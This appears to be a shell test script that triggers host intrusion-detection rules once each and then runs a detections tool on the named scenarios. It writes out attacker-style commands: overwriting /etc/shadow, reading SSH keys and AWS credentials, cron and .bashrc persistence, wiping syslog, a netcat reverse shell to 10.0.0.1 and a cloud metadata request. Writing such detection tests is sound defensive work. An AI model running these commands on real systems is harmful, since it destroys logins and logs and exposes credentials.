# Does what rules look for, each once, and what they must not take for it.
mkdir -p /var/log /var/spool/cron /etc/cron.d /root/.ssh /root/.aws /dev/shm
echo 'root:x:1::::::' > /etc/shadow
cat /etc/shadow
cat /etc/../etc/shadow
cat /usr/../etc/pam.conf
cd /etc && cat shadow; cd /
touch /bin/planted /usr/bin/planted /etc/planted /root/planted /planted
touch /dev/planted
echo 'alias ls=true' >> /root/.bashrc
echo '* * * * * true' > /etc/cron.d/job
echo x > /var/log/syslog
: > /var/log/syslog
echo key > /root/.ssh/id_rsa
cat /root/.ssh/id_rsa
cat /root/.ssh/authorized_keys
echo secret > /root/.aws/credentials
grep -r BEGIN /root/.ssh/id_rsa
grep id_rsa /etc/hostname
find /root -name id_rsa
find /root -iname .aws/credentials
cp /bin/true /tmp/apt-get && /tmp/apt-get update
cp /bin/true /tmp/nc && /tmp/nc -e /bin/sh 10.0.0.1 4444
cp /bin/true /tmp/tcpdump && /tmp/tcpdump -i any
cp /bin/true /tmp/shred && /tmp/shred -u /tmp/x
cp /bin/true /tmp/curl && /tmp/curl http://169.254.169.254/latest/meta-data
cp /bin/true /tmp/ssh && /tmp/ssh 10.0.0.1
cp /bin/true /tmp/base64 && /tmp/base64 -d
cp /bin/true /dev/shm/dropped && /dev/shm/dropped
cp /bin/true /tmp/suid
ln -s /bin/true /tmp/linked && /tmp/linked
(exec -a renamed /bin/true)
/nothing/there
(cd /usr && /bin/sh -c 'cd bin && ./true')
bash -c 'exec 3<>/dev/tcp/127.0.0.1/9; true' 2>/dev/null
for each in reverse-shell reverse-shell-copied reverse-shell-stale innocent from-memory in-directory rare-calls networks; do
  /opt/detections/detections $each
done
